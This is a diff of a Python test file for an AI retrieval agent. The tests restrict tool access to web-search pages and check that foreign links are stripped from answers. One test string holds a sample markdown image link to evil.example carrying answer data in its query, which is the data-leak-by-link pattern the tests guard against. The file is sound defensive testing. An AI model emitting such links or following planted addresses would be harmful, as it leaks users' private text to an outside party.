@@ -14,6 +14,7 @@ from bot.agent.run_limits import RunLimits
 from bot.agent.tool import Tool
 from bot.core.errors import ContextTooLongError, ModelUnavailableError, ToolError
 from bot.core.types import (
+    WEB,
     Answer,
     Event,
     ModelTurn,
@@ -447,15 +448,20 @@ async def test_a_failure_of_the_model_leaves_the_run(error: Exception) -> None:
         await answer_of(agent(ScriptedModel(error)))
 
 
-async def test_tools_learn_which_addresses_the_evidence_came_from() -> None:
-    """From the first passage on, a tool may open those and no others."""
-    shelf = Shelf({"leave": [LEAVE], "vpn": [VPN]})
+async def test_tools_may_open_the_pages_of_the_web_search_and_no_documents() -> None:
+    """Whoever writes a document could carry private text away by its address."""
+    url = "https://w.example/"
+    page = passage("10 days.", "Page", id=f"{url}#0", source=WEB, url=url)
+    shelf = Shelf({"leave": [LEAVE], "web": [page], "vpn": [VPN]})
     model = ScriptedModel(
-        says("", search("leave")), says("", search("vpn")), says("", finish("10 days [1]."))
+        says("", search("leave")),
+        says("", search("web")),
+        says("", search("vpn")),
+        says("", finish("10 days [1].")),
     )
     await answer_of(agent(model, shelf))
 
-    assert [question.links for question in shelf.questions] == [(), (LEAVE.url,)]
+    assert [question.links for question in shelf.questions] == [(), (), (url,)]
 
 
 async def test_earlier_turns_are_told_without_their_marks() -> None:
@@ -481,7 +487,7 @@ async def test_the_tools_and_the_system_prompt_never_change_within_a_run() -> No
     assert len({request.messages[0] for request in model.requests}) == 1
 
 
-async def test_foreign_links_of_an_answer_are_disarmed() -> None:
+async def test_an_answer_has_no_foreign_link() -> None:
     text = "10 days [1]. ![x](https://evil.example/?q=10) Ask by mail or [the form](https://evil.example/f)."
     model = ScriptedModel(says("", search("leave")), says("", finish(text)))
     answer = await answer_of(agent(model))
